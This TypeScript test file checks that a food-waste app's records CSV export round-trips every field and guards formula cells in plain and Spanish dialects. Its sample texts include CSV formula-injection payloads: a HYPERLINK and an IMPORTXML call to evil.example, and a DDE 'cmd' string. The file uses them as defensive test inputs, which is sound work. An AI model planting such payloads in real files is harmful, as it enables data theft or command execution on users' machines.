import { deadline } from '@merma/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectedCell, PLAIN_HEADERS, SPANISH_HEADERS } from './csv.js';
import { createMember, DashboardBrowser, PASSWORD } from './dashboard-client.js';
import {
  api,
  CAUSA_CADUCIDAD,
  createTenant,
  DESTINO_DONATION,
  DESTINO_LANDFILL,
  startTestApp,
  type Tenant,
  type TestContext,
  validRecord,
} from './helpers.js';

/**
 * The records CSV as a program and a spreadsheet read it: downloaded over real HTTP in both forms
 * and read back with csv-parse, every row and every field equals what the database holds (texts
 * with the formula guard's apostrophes, and nothing else changed) — for free texts full of both
 * separators, quotes, every kind of line break, formula starts, accents, the euro sign, emoji and
 * a byte order mark, in every free-text column the export carries: notes, product names, photo
 * URLs, shift names and the source an inbound system names itself by. (An inbound event's
 * `external_id` is not a column: it stays in the inbound log.)
 */

const NOW = new Date('2026-11-23T11:00:00Z');
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

const TEXTS = [
  'semi;colon',
  'com,ma',
  'say "hola"',
  '"',
  '""',
  ';',
  ',',
  'line\nbreak',
  'line\r\nbreak',
  'lone\rcarriage return',
  '\n',
  '\r\n',
  'ends with a break\r\n',
  '=1+1',
  '+34 600 000 000',
  '-5 kg',
  '@SUM(A1:A9)',
  '\ttab first',
  '\rcarriage return first',
  '\nline feed first',
  '=HYPERLINK("https://evil.example/?"&A1;"pulsa")',
  "ok\n=cmd|' /C calc'!A0",
  'ok\r\n+1',
  'ok\r-1',
  'ok\n@x',
  'ok\n\tx',
  '\uFF1D1+1',
  'Ñandú, ñoquis y jamón: 12,50 € 😀 👩‍🍳 日本',
  '  spaces around  ',
  "'already quoted",
  '\uFEFFbyte order mark first',
  'all; of, "them"\r\n=together\nagain\r@now',
  '',
];

/** Weights and how each form writes them: a decimal point in `plain`, a decimal comma in `es`. */
const WEIGHTS: [number, string, string][] = [
  [1.25, '1.25', '1,25'],
  [0.001, '0.001', '0,001'],
  [1234.5, '1234.5', '1234,5'],
  [2, '2', '2'],
  [999_999.999, '999999.999', '999999,999'],
];
const KG = new Map(WEIGHTS.map(([kg, plain, es]) => [kg, { plain, es }]));

/** The Spanish names the `es` form writes for the codes used here (the prevention plan's). */
const CATEGORY_ES: Record<string, string> = { fish: 'Pescado', meat: 'Carne', dairy: 'Lácteos', fruit_veg: 'Frutas y verduras' };
const STAGE_ES: Record<string, string> = { preparation: 'Preparación', storage: 'Almacenamiento', post_service: 'Post-servicio' };
const CATEGORIES = Object.keys(CATEGORY_ES);
const STAGES = [...Object.keys(STAGE_ES), null];
/** How each record says it was measured (every fourth says nothing), and the `es` form's words for it. */
const MEASURED = [
  { measurement_method: 'direct_weighing', scale_id: 'BAL; "cocina", 1\n=2', tare_kg: 0.25, edible: 'inedible' },
  { measurement_method: 'estimate', edible: 'mixed', transfer_document_ref: 'DI-48/2026; "norte"\n+1' },
  {
    measurement_method: 'write_off',
    estimated: true,
    edible: 'edible',
    hierarchy_reason: 'other',
    hierarchy_note: 'Sin "recogida"; hoy\n=festivo',
  },
  {},
] as const;
const METHOD_ES: Record<string, string> = { direct_weighing: 'Pesaje directo', estimate: 'Estimación', write_off: 'Baja en TPV/ERP' };
const EDIBLE_ES: Record<string, string> = { inedible: 'No comestible', mixed: 'Mixto', edible: 'Comestible' };

const PHOTOS = ['https://fotos.example/merma/1.jpg?a=1,2;3&b=%22x%22', 'https://fotos.example/ñandú/€.jpg', null];

const DIALECTS = [
  { dialect: 'plain', delimiter: ',', headers: PLAIN_HEADERS },
  { dialect: 'es', delimiter: ';', headers: SPANISH_HEADERS },
] as const;

/** Wall-clock time in Madrid: every record here happened in November, on CET (UTC+1). */
const madrid = (at: Date) => {
  expect(at.getUTCMonth(), 'a November date, on CET').toBe(10);
  return new Date(at.getTime() + 3_600_000).toISOString().slice(0, 19).replace('T', ' ');
};

let t: TestContext;
let base: string;
let tenant: Tenant;
let cookie: string;
/** What was sent for each record id, to hold the stored texts against. */
const sent = new Map<string, { notes?: string | null; product_name?: string | null; photo_url?: string | null; source?: string }>();
const shiftName = 'Noche; "de guardia",\r\n=1+1 ñ € 😀';
const inboundSource = 'Caja 3; "TPV", sala\n=1+1 ñ€😀';
const correctionSource = 'ERP "norte", almacén; 2';

beforeAll(async () => {
  t = await startTestApp({ config: { TRUST_PROXY: 'true', REDIS_URL: '' }, clock: () => NOW });
  tenant = await createTenant(t.db);
  const client = api(t.app, tenant.key);
  const shift = await client.post('/api/v1/shifts', { name: shiftName, start_time: '22:00', end_time: '06:00' });
  expect(shift.statusCode, shift.body).toBe(201);
  const session = await client.post('/api/v1/sessions', { name: 'Cierre; "viernes"' });
  expect(session.statusCode, session.body).toBe(201);

  const records = TEXTS.map((notes, i) => {
    const day = String(1 + (i % 22)).padStart(2, '0');
    const minute = String(i).padStart(2, '0');
    return validRecord({
      notes,
      product_name: TEXTS[(i + 11) % TEXTS.length],
      food_category: CATEGORIES[i % CATEGORIES.length],
      weight_kg: WEIGHTS[i % WEIGHTS.length]?.[0],
      destino_id: i % 2 ? DESTINO_LANDFILL : DESTINO_DONATION,
      causa_id: i % 3 ? CAUSA_CADUCIDAD : null,
      waste_stage: STAGES[i % STAGES.length],
      shift_id: i % 4 === 0 ? shift.json().data.id : null,
      session_id: i % 5 === 0 ? session.json().data.id : null,
      photo_url: PHOTOS[i % PHOTOS.length],
      ...MEASURED[i % MEASURED.length],
      occurred_at: `2026-11-${day}T${String(8 + (i % 12)).padStart(2, '0')}:${minute}:00+01:00`,
    });
  });
  const batch = await client.post('/api/v1/records/batch', { records });
  expect(batch.statusCode, batch.body).toBe(200);
  expect(batch.json().data).toMatchObject({ inserted: records.length, errors: [] });
  for (const [i, r] of (batch.json().data.records as { id: string }[]).entries()) sent.set(r.id, records[i] as never);

  // A system without a connector names itself in `source`, which the export carries (`inbound:<source>`).
  const inbound = await client.post('/api/v1/webhooks/inbound', {
    event: 'waste.created',
    payload: {
      source: inboundSource,
      external_id: 'TPV-7; "a",\nb',
      food_category: 'dairy',
      weight_kg: 1.25,
      destino_id: DESTINO_DONATION,
      product_name: 'Yogur "natural"; 125 g, pack',
      notes: '=IMPORTXML("https://evil.example";"//a")',
      occurred_at: '2026-11-22T23:30:00+01:00',
    },
  });
  expect(inbound.statusCode, inbound.body).toBe(200);
  sent.set(inbound.json().data.record_id, {
    source: `inbound:${inboundSource}`,
    product_name: 'Yogur "natural"; 125 g, pack',
    notes: '=IMPORTXML("https://evil.example";"//a")',
  });
  // A correction: the export lists it (naming the record it replaces) and leaves the original out.
  const original = batch.json().data.records[1].id as string;
  const corrected = await client.post('/api/v1/webhooks/inbound', {
    event: 'waste.updated',
    payload: { source: correctionSource, record_id: original, weight_kg: 2, product_name: 'Pan, "del día"; 2 uds\n-rancio' },
  });
  expect(corrected.statusCode, corrected.body).toBe(200);
  sent.set(corrected.json().data.record_id, {
    ...sent.get(original),
    source: `inbound:${correctionSource}`,
    product_name: 'Pan, "del día"; 2 uds\n-rancio',
  });
  sent.delete(original);

  const member = await createMember(t.db, tenant.organizationId, 'viewer');
  const browser = new DashboardBrowser(t.app);
  await browser.signIn(member.email, PASSWORD);
  cookie = `merma_session=${browser.cookies.get('merma_session')}`;
  await t.app.listen({ host: '127.0.0.1', port: 0 });
  base = `http://127.0.0.1:${(t.app.server.address() as { port: number }).port}`;
}, deadline(60_000));

afterAll(async () => {
  await t?.close();
});

/** The export of November, downloaded as a browser does: the session cookie, same origin. */
async function download(dialect: 'plain' | 'es') {
  const query = new URLSearchParams({
    establishment_id: tenant.establishmentId,
    mode: 'test',
    dialect,
    from: '2026-11-01',
    to: '2026-11-30',
  });
  const res = await fetch(`${base}/export/records.csv?${query}`, { headers: { cookie, 'sec-fetch-site': 'same-origin' } });
  const bytes = Buffer.from(await res.arrayBuffer());
  expect(res.status, bytes.toString('utf8')).toBe(200);
  return { res, bytes };
}

/** Every row the export should hold, in its order (newest first), as the database has it. */
async function expectedRows(dialect: 'plain' | 'es'): Promise<string[][]> {
  const es = dialect === 'es';
  const [records, destinations, causes, shifts] = await Promise.all([
    t.db.record.findMany({
      where: { establishment_id: tenant.establishmentId, livemode: false, superseded_by: null },
      orderBy: [{ occurred_at: 'desc' }, { id: 'desc' }],
    }),
    t.db.destination.findMany(),
    t.db.cause.findMany(),
    t.db.shift.findMany({ where: { establishment_id: tenant.establishmentId } }),
  ]);
  const nameOf = (rows: { id: string; nombre?: string; name?: string }[], id: string | null) =>
    id === null ? '' : ((rows.find((r) => r.id === id)?.nombre ?? rows.find((r) => r.id === id)?.name) as string);
  return records.map((r) => {
    const kg = KG.get(Number(r.weight_kg));
    expect(kg, `a weight of this test: ${r.weight_kg}`).toBeDefined();
    return [
      r.id,
      r.occurred_at.toISOString(),
      madrid(r.occurred_at),
      r.created_at.toISOString(),
      es ? (CATEGORY_ES[r.food_category] as string) : r.food_category,
      es ? (kg?.es as string) : (kg?.plain as string),
      r.destino_id,
      nameOf(destinations, r.destino_id),
      r.causa_id ?? '',
      nameOf(causes, r.causa_id),
      r.waste_stage === null ? '' : es ? (STAGE_ES[r.waste_stage] as string) : r.waste_stage,
      r.shift_id ?? '',
      nameOf(shifts, r.shift_id),
      r.session_id ?? '',
      r.product_name ?? '',
      r.notes ?? '',
      r.photo_url ?? '',
      r.product_id ?? '',
      r.measurement_method === null ? '' : es ? (METHOD_ES[r.measurement_method] as string) : r.measurement_method,
      r.scale_id ?? '',
      r.estimated === null ? '' : es ? (r.estimated ? 'sí' : 'no') : String(r.estimated),
      r.edible === null ? '' : es ? (EDIBLE_ES[r.edible] as string) : r.edible,
      r.tare_kg === null ? '' : es ? String(r.tare_kg).replace('.', ',') : String(r.tare_kg),
      r.hierarchy_reason === null ? '' : es ? 'Otro motivo' : r.hierarchy_reason,
      r.hierarchy_note ?? '',
      r.transfer_document_ref ?? '',
      r.source,
      r.supersedes_id ?? '',
      r.record_hash,
    ].map(expectedCell);
  });
}

/**
 * Read as a spreadsheet does: a CRLF, a lone LF or a lone CR outside quotes ends a row, so a line
 * break the writer left unquoted shows as a broken row. Column counts are strict, quotes too.
 */
const readAsSpreadsheet = (bytes: Buffer, delimiter: string, bom: boolean) =>
  parse(bytes, { delimiter, bom, encoding: 'utf8', record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
/** Read as RFC 4180 says: rows end with CRLF, and only there. */
const readAsRfc4180 = (bytes: Buffer, delimiter: string, bom: boolean) =>
  parse(bytes, { delimiter, bom, encoding: 'utf8', record_delimiter: '\r\n' }) as string[][];

describe('records CSV round trip over HTTP', () => {
  it('stored the texts as they were sent (the round trip starts from them)', async () => {
    const rows = await t.db.record.findMany({ where: { id: { in: [...sent.keys()] } } });
    expect(rows).toHaveLength(sent.size);
    for (const row of rows) {
      const input = sent.get(row.id);
      expect(row.notes, row.id).toBe(input?.notes ?? null);
      expect(row.product_name, row.id).toBe(input?.product_name ?? null);
      expect(row.photo_url, row.id).toBe(input?.photo_url ?? null);
      if (input?.source) expect(row.source).toBe(input.source);
    }
    // How each was measured, as said; `estimated` from the method where the record left it out.
    const batchRows = rows.filter((row) => row.source === 'batch');
    const byMethod = (method: string | null) => batchRows.filter((row) => row.measurement_method === method);
    expect(byMethod('direct_weighing').map((r) => [r.scale_id, r.estimated, r.edible, Number(r.tare_kg)])).toEqual(
      byMethod('direct_weighing').map(() => ['BAL; "cocina", 1\n=2', false, 'inedible', 0.25]),
    );
    expect(byMethod('estimate').map((r) => [r.scale_id, r.estimated, r.edible, r.tare_kg])).toEqual(
      byMethod('estimate').map(() => [null, true, 'mixed', null]),
    );
    expect(byMethod('write_off').map((r) => r.estimated)).toEqual(byMethod('write_off').map(() => true));
    expect(byMethod(null).map((r) => [r.scale_id, r.estimated, r.edible, r.tare_kg])).toEqual(
      byMethod(null).map(() => [null, null, null, null]),
    );
    expect([byMethod('direct_weighing'), byMethod('estimate'), byMethod('write_off'), byMethod(null)].map((g) => g.length > 0)).toEqual([
      true,
      true,
      true,
      true,
    ]);
    const shift = await t.db.shift.findFirstOrThrow({ where: { establishment_id: tenant.establishmentId } });
    expect(shift.name).toBe(shiftName);
  });

  it.each(DIALECTS)('$dialect: every row and field reads back as stored, in both readings', async ({ dialect, delimiter, headers }) => {
    const { bytes } = await download(dialect);
    const expected = [headers, ...(await expectedRows(dialect))];
    expect(expected).toHaveLength(TEXTS.length + 2); // the batch, the inbound record; the correction replaces one
    expect(readAsSpreadsheet(bytes, delimiter, dialect === 'es')).toEqual(expected);
    expect(readAsRfc4180(bytes, delimiter, dialect === 'es')).toEqual(expected);
    // The API lists the same records in the same order.
    const listed = await api(t.app, tenant.key).get('/api/v1/records', { query: { from: '2026-11-01', to: '2026-11-30', limit: '200' } });
    expect(listed.json().data.map((r: { id: string }) => r.id)).toEqual(expected.slice(1).map((r) => r[0]));
  });

  it.each(DIALECTS)(
    '$dialect: a field holding either separator, a quote or a line break is quoted, quotes doubled',
    async ({ dialect }) => {
      const text = (await download(dialect)).bytes.toString('utf8');
      const cells = (await expectedRows(dialect)).flat();
      const special = cells.filter((c) => /[\r\n",;]/.test(c));
      expect(special.length).toBeGreaterThan(TEXTS.length);
      for (const cell of special) expect(text, JSON.stringify(cell)).toContain(`"${cell.replaceAll('"', '""')}"`);
      // Rows end with CRLF, the last one too.
      expect(text.endsWith('\r\n')).toBe(true);
    },
  );

  it('es: a UTF-8 file with a byte order mark, as Excel needs to show accents; plain: UTF-8 without one', async () => {
    const es = await download('es');
    expect(es.res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(es.res.headers.get('content-disposition')).toBe('attachment; filename="merma-test-records-2026-11-23-es.csv"');
    expect(es.bytes.subarray(0, 3)).toEqual(BOM);
    // Valid UTF-8 throughout (a character split between two chunks would not be), read as Excel reads it.
    const decoded = new TextDecoder('utf-8', { fatal: true, ignoreBOM: false }).decode(es.bytes);
    expect(decoded.startsWith('ID;Fecha y hora (UTC);')).toBe(true);
    for (const word of ['Categoría', 'Ñandú', '€', '😀', '👩‍🍳', '日本']) expect(decoded).toContain(word);
    expect(es.bytes.includes(Buffer.from('€', 'utf8'))).toBe(true);

    const plain = await download('plain');
    expect(plain.res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(plain.res.headers.get('content-disposition')).toBe('attachment; filename="merma-test-records-2026-11-23.csv"');
    expect(plain.bytes.subarray(0, 3)).not.toEqual(BOM);
    expect(new TextDecoder('utf-8', { fatal: true }).decode(plain.bytes).startsWith('id,occurred_at,')).toBe(true);
  });
});
